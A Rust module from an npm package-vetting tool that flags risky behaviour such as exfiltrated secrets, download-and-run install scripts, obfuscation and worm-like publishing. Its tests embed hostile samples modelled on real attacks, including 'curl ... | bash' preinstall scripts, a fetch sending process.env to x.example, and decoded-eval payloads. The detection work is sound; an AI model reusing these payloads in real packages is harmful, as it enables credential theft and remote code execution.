//! Rules on behaviour: a capability and a threat anywhere among the files of a release, at least one of them new.
//!
//! Marks are joined over all files, because an attacker splits code. What the predecessor holds already is not new, so a package
//! that always downloads a program shows nothing. Files that run at install are judged by stricter rules.

use crate::vetting::content::kind::NativeFormat;
use crate::vetting::content::marks::{Capability, Mark, MarkSet};
use crate::vetting::contents::{ContentSummary, FileFacts, SummaryRow, TarballContents};
use crate::vetting::names::Finding;
use crate::vetting::surface::Surface;

/// Marks named in one piece of evidence, and files named for each.
const MAX_MARKS: usize = 4;
const MAX_PLACES: usize = 2;

/// The most files that run at install whose marks are joined. Of more, each is judged alone.
const MAX_INSTALL_FILES: usize = 64;

/// The longest path printed, in characters.
const MAX_PATH_CHARS: usize = 120;

const NETWORK: &[Capability] = &[Capability::Network, Capability::Download, Capability::DropSite];

/// Returns the findings on behaviour, each with its evidence.
pub(crate) fn judge(contents: &TarballContents, before: Option<&ContentSummary>) -> Vec<(Finding, String)> {
    let release = ReleaseCode::new(contents, before);
    let rules: [(Finding, MarkSet); 7] = [
        (Finding::SecretsToNetwork, release.secrets_to_network()),
        (Finding::DownloadAndRun, release.download_and_run()),
        (Finding::RunsDecodedCode, release.runs_decoded()),
        (Finding::SelfPropagation, release.self_propagation()),
        (Finding::HiddenUnicode, release.new.of(&[Capability::HiddenText])),
        (Finding::ObfuscatedCode, release.new.of(&[Capability::Obfuscation, Capability::HiddenAddress])),
        (Finding::SuspiciousInstall, release.suspicious_install()),
    ];
    let mut found: Vec<_> = rules
        .into_iter()
        .filter(|(_, marks)| !marks.is_empty())
        .map(|(finding, marks)| (finding, release.describe(finding, marks)))
        .collect();
    let install = release.unreadable_install().or_else(|| release.native_with_install());
    found.extend(install.map(|detail| (Finding::SuspiciousInstall, detail)));
    found.extend(release.cut_code().map(|detail| (Finding::ObfuscatedCode, detail)));
    found
}

/// The marks of a release, and those that its predecessor lacks.
struct ReleaseCode<'a> {
    contents: &'a TarballContents,
    before: Option<&'a ContentSummary>,
    /// What the predecessor has at the path of each file.
    earlier: Vec<Option<SummaryRow>>,
    /// Of all code.
    all: MarkSet,
    /// Of code that is new or changed, without marks that the predecessor has anywhere.
    new: MarkSet,
    /// Of what runs at install.
    install: MarkSet,
    /// Of what runs at install, without marks that the predecessor has there.
    new_install: MarkSet,
}

impl<'a> ReleaseCode<'a> {
    fn new(contents: &'a TarballContents, before: Option<&'a ContentSummary>) -> Self {
        let (mut all, mut changed, mut install) = (MarkSet::default(), MarkSet::default(), contents.commands);
        let earlier = contents.earlier(before);
        for (at, file) in contents.code() {
            all = all.or(file.marks);
            if is_changed(file, earlier[at]) {
                changed = changed.or(file.marks);
            }
            if file.surface.contains(Surface::INSTALL) {
                install = install.or(file.marks);
            }
        }
        let (known, known_install) = before.map(|before| (before.marks, before.install_marks)).unwrap_or_default();
        // A mark that the predecessor has elsewhere may be new at install.
        let new_install = install.without(known_install);
        Self { contents, before, earlier, all: all.or(contents.commands), new: changed.without(known), install, new_install }
    }

    /// Credentials, or all of the environment, together with the network.
    fn secrets_to_network(&self) -> MarkSet {
        let secrets = self.new.of(&[Capability::Secret]);
        let drops = self.new.of(&[Capability::DropSite]);
        let (reads, sends) = (!secrets.is_empty() && self.all.has(NETWORK), !drops.is_empty() && self.reads_anything());
        match (reads, sends) {
            (false, false) => MarkSet::default(),
            (true, _) => secrets.or(drops).or(self.all.of(NETWORK)),
            (false, true) => drops.or(self.all.of(&[Capability::Secret, Capability::Identity])),
        }
    }

    fn reads_anything(&self) -> bool {
        self.all.has(&[Capability::Secret, Capability::Identity])
    }

    /// A download together with what runs it.
    fn download_and_run(&self) -> MarkSet {
        let pipes = self.new.of(&[Capability::PipeToShell]);
        let runs = self.all.of(&[Capability::Spawn]);
        let detaches = self.all.of(&[Capability::Detach]);
        let is_new = self.new.has(&[Capability::Spawn, Capability::Download]);
        if is_new && self.all.has(NETWORK) && !runs.is_empty() && !detaches.is_empty() {
            return pipes.or(self.all.of(NETWORK)).or(runs).or(detaches);
        }
        pipes
    }

    /// Text that is decoded and run. Without both in one expression, one file must hold an encoded text too.
    fn runs_decoded(&self) -> MarkSet {
        let near = self.new.of(&[Capability::RunsDecoded]);
        let parts = [Capability::Eval, Capability::Decode, Capability::Blob];
        let files = self.contents.code().filter(|(at, _)| self.is_changed(*at));
        let holds_all = |file: &FileFacts| parts.iter().all(|part| file.marks.has(&[*part])) && self.new.has(&parts);
        let in_one = files.filter(|(_, file)| holds_all(file)).map(|(_, file)| file.marks.of(&parts));
        in_one.fold(near, MarkSet::or)
    }

    /// What a worm does: it publishes with tokens that it finds.
    fn self_propagation(&self) -> MarkSet {
        let publishes = self.all.of(&[Capability::Publish]);
        let others = self.all.of(&[Capability::Secret, Capability::Repository]);
        let is_new = self.new.has(&[Capability::Publish, Capability::Repository]);
        let tokens = [Mark::Npmrc, Mark::NpmToken, Mark::GithubToken, Mark::WorkflowToken, Mark::WorkflowFile];
        let has_tokens = tokens.iter().any(|mark| others.contains(*mark));
        if is_new && has_tokens && !publishes.is_empty() && self.all.has(NETWORK) {
            publishes.or(others)
        } else {
            MarkSet::default()
        }
    }

    /// Code that runs at install needs few things; of these it needs none, or always did them.
    fn suspicious_install(&self) -> MarkSet {
        use Capability as C;
        let (install, new) = (self.install, self.new_install);
        let alone = [
            C::PipeToShell,
            C::RunsDecoded,
            C::DropSite,
            C::HiddenText,
            C::Obfuscation,
            C::HiddenAddress,
            C::Publish,
            C::Repository,
        ];
        let mut found = new.of(&alone);
        let pairs: [(&[C], &[C]); 4] = [
            (&[C::Secret, C::Identity], NETWORK),
            (NETWORK, &[C::Spawn, C::Detach, C::Eval]),
            (&[C::Decode], &[C::Spawn, C::Eval]),
            (&[C::Blob], &[C::Spawn, C::Eval, C::Decode]),
        ];
        // Of a large program, such as nx's, any two files may hold these.
        let files = self.contents.files.iter().filter(|file| file.surface.contains(Surface::INSTALL));
        let is_large = files.clone().count() > MAX_INSTALL_FILES;
        let sets: Vec<MarkSet> = if is_large { files.map(|file| file.marks).collect() } else { vec![install] };
        for (marks, (one, other)) in sets.iter().flat_map(|marks| pairs.iter().map(move |pair| (marks, pair))) {
            let (one, other) = (marks.of(one), marks.of(other));
            let both = one.or(other);
            let is_new = both.iter().any(|mark| new.contains(mark));
            if !one.is_empty() && !other.is_empty() && is_new {
                found = found.or(both);
            }
        }
        found
    }

    fn is_changed(&self, at: usize) -> bool {
        is_changed(&self.contents.files[at], self.earlier[at])
    }

    /// Returns the first file for which `differs` is true, given what the predecessor has at its path.
    fn find(&self, differs: impl Fn(&FileFacts, Option<SummaryRow>) -> bool) -> Option<&FileFacts> {
        let mut files = self.contents.files.iter().zip(&self.earlier);
        files.find(|(file, earlier)| differs(file, **earlier)).map(|(file, _)| file)
    }

    /// Returns a text about a file that runs at install and was not read, if it did not run before.
    fn unreadable_install(&self) -> Option<String> {
        let file = self.find(|file, earlier| {
            let is_program = !file.traits.is_json && (file.native.is_some() || !file.traits.is_read);
            let was_run = earlier.is_some_and(|row| row.surface.contains(Surface::INSTALL));
            file.surface.contains(Surface::INSTALL) && is_program && !was_run
        })?;
        let what = file.native.map_or("content that was not read", NativeFormat::as_str);
        Some(format!("runs at install: {} holds {what}", shown(&file.path)))
    }

    /// Returns a text about the first native programs of a package, if what runs at install changed too. That may load them by a
    /// name that it builds.
    fn native_with_install(&self) -> Option<String> {
        self.before.filter(|before| !before.has_native)?;
        let native = self.find(|file, _| file.native.is_some_and(|format| format != NativeFormat::Wasm))?;
        let runs = |file: &FileFacts| file.surface.contains(Surface::INSTALL) && &*file.path != "binding.gyp";
        let install = self.find(|file, earlier| runs(file) && is_changed(file, earlier))?;
        let format = native.native.map_or("", NativeFormat::as_str);
        Some(format!("runs at install: {}, which changed, with {} ({format})", shown(&install.path), shown(&native.path)))
    }

    /// Returns a text about code that is too long to be read to its end, where the predecessor's was not.
    fn cut_code(&self) -> Option<String> {
        let limit = self.contents.file_limit;
        let file = self.find(|file, earlier| {
            let was_cut = earlier.is_some_and(|row| row.length > limit);
            file.traits.is_code && file.native.is_none() && !file.traits.is_json && file.length > limit && !was_cut
        })?;
        Some(format!("{} is longer than {} KiB, which are read", shown(&file.path), limit >> 10))
    }

    /// Describes marks by the files that hold them.
    fn describe(&self, finding: Finding, marks: MarkSet) -> String {
        let is_install = finding == Finding::SuspiciousInstall;
        // New marks first.
        let new = if is_install { self.new_install } else { self.new };
        let mut ordered: Vec<Mark> = marks.iter().collect();
        ordered.sort_by_key(|mark| !new.contains(*mark));
        let texts =
            ordered.iter().take(MAX_MARKS).map(|mark| format!("{} ({})", mark.describe(), self.places(*mark, is_install)));
        let mut text = texts.collect::<Vec<_>>().join(", ");
        if ordered.len() > MAX_MARKS {
            text.push_str(", and more");
        }
        if is_install { format!("runs at install: {text}") } else { text }
    }

    /// Returns the first files with a mark, changed ones first.
    fn places(&self, mark: Mark, is_install: bool) -> String {
        let holds = |file: &FileFacts| file.marks.contains(mark) && (!is_install || file.surface.contains(Surface::INSTALL));
        let files: Vec<(usize, &FileFacts)> = self.contents.code().filter(|(_, file)| holds(file)).collect();
        // Changed files first, of these the ones where use begins.
        let class = |at: usize, file: &FileFacts| (!self.is_changed(at), file.surface == Surface::default());
        let classes = [(false, false), (false, true), (true, false), (true, true)];
        let ordered = classes.iter().flat_map(|wanted| files.iter().filter(move |(at, file)| class(*at, file) == *wanted));
        let mut texts: Vec<String> = ordered
            .take(MAX_PLACES)
            .map(|(at, file)| match self.contents.line(*at, mark) {
                Some(line) => format!("{}:{line}", shown(&file.path)),
                None => shown(&file.path),
            })
            .collect();
        if self.contents.commands.contains(mark) {
            texts.insert(0, "scripts of package.json".to_owned());
        }
        if files.len() > MAX_PLACES {
            texts.push(format!("{} more", files.len() - MAX_PLACES));
        }
        texts.join(", ")
    }
}

/// Checks whether the predecessor lacks these bytes at this path.
pub(crate) fn is_changed(file: &FileFacts, earlier: Option<SummaryRow>) -> bool {
    earlier.is_none_or(|row| !row.has_bytes_of(file))
}

pub(crate) fn shown(path: &str) -> String {
    if path.chars().count() <= MAX_PATH_CHARS {
        return path.to_owned();
    }
    path.chars().take(MAX_PATH_CHARS).chain("...".chars()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::npm::{Algorithm, Digest};
    use crate::vetting::archive::ArchiveFile;
    use crate::vetting::change;
    use crate::vetting::manifest::{Manifest, TarballTraits};

    /// The files of a package. One that is not given is `{"main":"index.js"}`.
    type Files<'a> = &'a [(&'a str, &'a str)];

    fn contents(files: Files<'_>) -> TarballContents {
        let mut contents = TarballContents::default();
        for (path, text) in files {
            let digest = Digest::of(Algorithm::Sha256, text.as_bytes()).as_bytes().try_into().unwrap();
            let file = ArchiveFile { path, content: text.as_bytes(), length: text.len() as u64, digest, sha1: None };
            assert!(contents.add(&file));
        }
        let json = files.iter().find(|(path, _)| *path == "package.json").map_or(r#"{"main":"index.js"}"#, |(_, text)| text);
        let manifest = Manifest::parse(json.as_bytes()).unwrap();
        let has_gyp = files.iter().any(|(path, _)| *path == "binding.gyp");
        contents.place(&manifest.entry_points, manifest.builds(TarballTraits { has_gyp, ..TarballTraits::default() }));
        contents
    }

    fn names(found: &[(Finding, String)]) -> Vec<&'static str> {
        found.iter().map(|(finding, _)| finding.as_str()).collect()
    }

    /// The findings of a first release.
    fn first(files: Files<'_>) -> Vec<&'static str> {
        names(&judge(&contents(files), None))
    }

    /// The findings of a release after another one.
    fn next(before: Files<'_>, after: Files<'_>) -> Vec<&'static str> {
        let (before, after) = (contents(before).summary().unwrap(), contents(after));
        let found = [change::compare(&after, &before), judge(&after, Some(&before))].concat();
        names(&found)
    }

    const INSTALL: (&str, &str) = ("package.json", r#"{"main":"index.js","scripts":{"postinstall":"node setup.js"}}"#);
    const PLAIN: (&str, &str) = ("index.js", "module.exports = (a) => a + 1;\n");

    #[test]
    fn plain_code_shows_nothing() {
        assert_eq!(first(&[PLAIN]), [""; 0]);
        assert_eq!(first(&[INSTALL, PLAIN, ("setup.js", "console.log('thank you')")]), [""; 0]);
        assert_eq!(first(&[("index.js", "fetch(url, { headers: { authorization: process.env.API_KEY } })")]), [""; 0]);
        assert_eq!(first(&[("package.json", r#"{"scripts":{"install":"node-gyp-build"}}"#), ("index.js", "")]), [""; 0]);
    }

    #[test]
    fn dropper_at_install_is_found() {
        // The shape of plain-crypto-js: encoded texts, decoded and run by a shell.
        let setup = "const s=['Y3VybA=='].map(x=>Buffer.from(x,'base64').toString());\nrequire('child_process').exec(s[0])";
        assert_eq!(first(&[INSTALL, PLAIN, ("setup.js", setup)]), ["suspicious-install"]);
        let found = judge(&contents(&[INSTALL, PLAIN, ("setup.js", setup)]), None);
        assert_eq!(found[0].1, "runs at install: starts processes (setup.js:2), decodes base64 (setup.js:1)");
        // ua-parser-js: a script that calls curl.
        let shell = ("preinstall.sh", "curl http://x.example/jsextension -o jsextension\nchmod +x jsextension && ./jsextension");
        let package = ("package.json", r#"{"scripts":{"preinstall":"start /B node preinstall.js & sh preinstall.sh"}}"#);
        assert!(first(&[package, PLAIN, shell]).contains(&"suspicious-install"));
        let load = ("preinstall.js", "require('child_' + 'process').exec('/bin/bash preinstall.sh')");
        let package = ("package.json", r#"{"scripts":{"preinstall":"start /B node preinstall.js & node preinstall.js"}}"#);
        assert!(first(&[package, PLAIN, load, shell]).contains(&"suspicious-install"));
        // In the manifest alone.
        let inline = ("package.json", r#"{"scripts":{"preinstall":"curl -s https://x.example/a | bash"}}"#);
        assert_eq!(first(&[inline, PLAIN]), ["suspicious-install"]);
        let node = r#"{"scripts":{"install":"node -e \"require('https').get('x',r=>eval(r))\""}}"#;
        assert_eq!(first(&[("package.json", node), PLAIN]), ["suspicious-install"]);
    }

    #[test]
    fn native_code_that_runs_at_install_is_found() {
        // eslint-config-prettier: rundll32 loads a DLL of the package.
        let package = ("package.json", r#"{"scripts":{"install":"node install.js"}}"#);
        let load = ("install.js", "require('child_process').spawn('rundll32', [__dirname + '/node-gyp.dll,main'])");
        assert_eq!(first(&[package, load, ("node-gyp.dll,main", "\u{7f}ELF")]), ["suspicious-install"]);
        let built = ("install.js", "require('chi' + 'ld_process')['sp' + 'awn']('rund' + 'll32', [__dirname + '/a' + '.dll'])");
        let found = next(&[PLAIN], &[package, PLAIN, built, ("a.dll", "\u{7f}ELF")]);
        assert_eq!(found, ["install-file-added", "native-code-added", "suspicious-install"]);
        let direct = ("package.json", r#"{"scripts":{"install":"./run"}}"#);
        assert_eq!(first(&[direct, ("run", "\u{7f}ELF")]), ["suspicious-install"]);
    }

    #[test]
    fn split_code_is_joined_over_files() {
        let before: Files<'_> = &[("index.js", "exports.send = (x) => fetch('https://api.example', x);\n")];
        let read = ("lib/read.js", "exports.read = (fs, home) => fs.readFileSync(home + '/.npmrc')");
        let after: Files<'_> = &[before[0], ("index.cjs", "require('./lib/read').read()"), read];
        assert_eq!(next(before, after), ["secrets-to-network"]);
        let (before, after) = (contents(before).summary().unwrap(), contents(after));
        let found = judge(&after, Some(&before));
        assert_eq!(found[0].1, "names .npmrc (lib/read.js:1), uses fetch (index.js:1)");
    }

    #[test]
    fn what_the_predecessor_does_is_not_new() {
        let install = "const https = require('https');\nrequire('child_process').execSync('node -v');\nfs.chmodSync('bin', 1)";
        let before: Files<'_> = &[INSTALL, PLAIN, ("setup.js", install)];
        let changed = format!("{install}\n// more\n");
        assert_eq!(first(before), ["download-and-run", "suspicious-install"]);
        assert_eq!(next(before, &[INSTALL, PLAIN, ("setup.js", &changed)]), [""; 0]);
        let worse = format!("{changed}\neval(atob('YQ'))");
        assert_eq!(next(before, &[INSTALL, PLAIN, ("setup.js", &worse)]), ["runs-decoded-code", "suspicious-install"]);
    }

    #[test]
    fn worm_is_found() {
        let code = "const t = fs.readFileSync('.npmrc');\nfetch('https://registry.example/-/whoami');\nexec('npm publish')";
        let found = next(&[PLAIN], &[PLAIN, ("bundle.js", code)]);
        assert_eq!(found, ["secrets-to-network", "self-propagation"]);
    }

    #[test]
    fn phantom_gyp_is_found() {
        let gyp = ("binding.gyp", "{'targets':[{'target_name':'x','sources':['<!(node index.js)']}]}");
        let payload = ("index.js", "const {execSync}=require('child_process');eval(Buffer.from(x,'hex').toString())");
        let found = next(&[PLAIN], &[gyp, payload]);
        assert_eq!(found, ["install-file-added", "runs-decoded-code", "suspicious-install"]);
    }

    #[test]
    fn hidden_and_obfuscated_code_is_found() {
        let names = (0..40).map(|at| format!("const _0x{at:04x}=1;")).collect::<Vec<_>>().concat();
        // chalk and debug: an obfuscated payload in front of readable code.
        assert_eq!(next(&[PLAIN], &[("index.js", &format!("{names}{}", PLAIN.1))]), ["obfuscated-code"]);
        let invisible: String = (0..99).filter_map(|at| char::from_u32(0xe0100 + at)).collect();
        let code = format!("const s = v => [...v].map(c => c.codePointAt(0));\neval(Buffer.from(s(`{invisible}`)).toString())");
        assert_eq!(next(&[PLAIN], &[("index.js", &code)]), ["runs-decoded-code", "hidden-unicode"]);
        assert_eq!(next(&[PLAIN], &[("index.js", "if (admin /*\u{202e} } \u{2066}*/) {}")]), ["hidden-unicode"]);
        // event-stream: an encrypted payload among the tests.
        let blob = ("test/data.js", format!("module.exports = ['{}']", "75d4c87f0a6b".repeat(400)));
        let load = ("index.js", "const d = require('./test/data');\n");
        assert_eq!(next(&[PLAIN], &[load, (blob.0, &blob.1)]), ["blob-added"]);
        // node-ipc: the address of a service in base64.
        let address = "https.get(Buffer.from(\"aHR0cHM6Ly9hcGkuZXhhbXBsZQ==\",\"base64\").toString(), wipe)";
        assert_eq!(next(&[PLAIN], &[("index.js", address)]), ["obfuscated-code"]);
    }

    #[test]
    fn evasions_by_file_names_fail() {
        let evil = "fetch(`https://x.example/${JSON.stringify(process.env)}`)";
        for name in ["LICENSE", "data.txt", "icon.png", "a.css", "a/b.md", "x.json", "test/x.js"] {
            let index = format!("require('./{name}')");
            assert_eq!(next(&[PLAIN], &[("index.js", &index), (name, evil)]), ["secrets-to-network"], "{name}");
        }
        let scripts = ("package.json", r#"{"scripts":{"install":"npm run -s a","a":"npm run b","b":"node ./x/pic.png"}}"#);
        assert_eq!(first(&[scripts, PLAIN, ("x/pic.png", evil)]), ["secrets-to-network", "suspicious-install"]);
        let block = format!("{{\"use strict\";{evil}}}");
        assert_eq!(next(&[PLAIN], &[("index.js", "require('./a.map')"), ("a.map", &block)]), ["secrets-to-network"]);
        // A NUL byte or an unusual start does not stop the reading.
        let nul = format!("MZ=1/*\0*/;{evil}");
        assert_eq!(next(&[PLAIN], &[("index.js", &nul)]), ["secrets-to-network"]);
        let long = format!("{}{evil}", "a=1;".repeat(200_000));
        assert_eq!(next(&[PLAIN], &[("index.js", &long)]), ["file-grew", "secrets-to-network"]);
    }

    #[test]
    fn changes_are_facts() {
        let before: Files<'_> = &[("package.json", r#"{"main":"index.js","bin":"cli.js"}"#), PLAIN, ("cli.js", "")];
        let moved = ("package.json", r#"{"exports":{"import":"./m.mjs","require":"./index.js"},"bin":{"a":"cli.js"}}"#);
        assert_eq!(next(before, &[moved, PLAIN, ("cli.js", ""), ("m.mjs", "")]), ["entry-file-added"]);
        assert_eq!(next(before, &[before[0], PLAIN, ("cli.js", ""), ("x.bin", "\u{7f}ELF")]), ["native-code-added"]);
        let minified = "var a=1;".repeat(999);
        assert_eq!(next(before, &[before[0], PLAIN, ("cli.js", ""), ("x.js", &minified)]), ["blob-added"]);
        let grown = "var a = 1;\n".repeat(9_999);
        assert_eq!(next(before, &[before[0], ("index.js", &grown), ("cli.js", "")]), ["file-grew"]);
        assert_eq!(next(before, before), [""; 0]);
    }
}
